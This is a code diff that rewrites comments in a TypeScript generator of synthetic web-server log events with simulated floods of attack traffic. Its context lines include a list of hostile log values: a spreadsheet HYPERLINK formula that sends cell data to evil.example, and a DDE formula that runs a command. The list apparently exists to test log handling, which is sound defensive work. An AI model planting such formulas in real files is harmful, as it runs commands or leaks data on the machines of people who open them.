@@ -23,7 +23,7 @@ const AGENTS = [
   'curl/8.16.0',
   'Go-http-client/2.0',
 ];
-/** What somebody on the internet writes into our log on purpose. */
+/** What an attacker might put into the log by way of a request. */
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?x="&A1,"click")',
   "+1+cmd|' /C calc'!A0",
@@ -43,7 +43,7 @@ const STATUSES: Record<string, string> = {
 
 type Attack = { tuple: string; startMs: number; seconds: number; host: string; country: string; net: number };
 
-/** A flood of requests that is held back for some hours, about every four days. */
+/** The attack in progress in this hour, if any. There is one every four days, and it lasts for two to five hours. */
 function attackIn(seed: number, hour: number): Attack | null {
   const block = Math.floor(hour / 96);
   const start = block * 96 + 10 + below(70, seed, block, 11);
@@ -59,7 +59,7 @@ function attackIn(seed: number, hour: number): Attack | null {
   };
 }
 
-/** Sometimes nothing happens for a whole day. */
+/** On about one day in eight nothing happens, apart from attacks. */
 const quiet = (seed: number, hour: number) => chance(seed, Math.floor(hour / 24), 21) < 0.12;
 
 function urlOf(seed: number, hour: number, index: number, host: string): string {
@@ -122,7 +122,7 @@ function makeEvent(seed: number, hour: number, index: number, attack: Attack | n
   };
 }
 
-/** The entries of one hour, newest first, as a pure function of the seed. */
+/** The entries of one hour (counted from the epoch), newest first. They depend only on the seed and the hour. */
 export function eventsOfHour(seed: number, hour: number): TimedEvent[] {
   const attack = attackIn(seed, hour);
   const ordinary = quiet(seed, hour) ? 0 : 1 + below(9, seed, hour, 61);
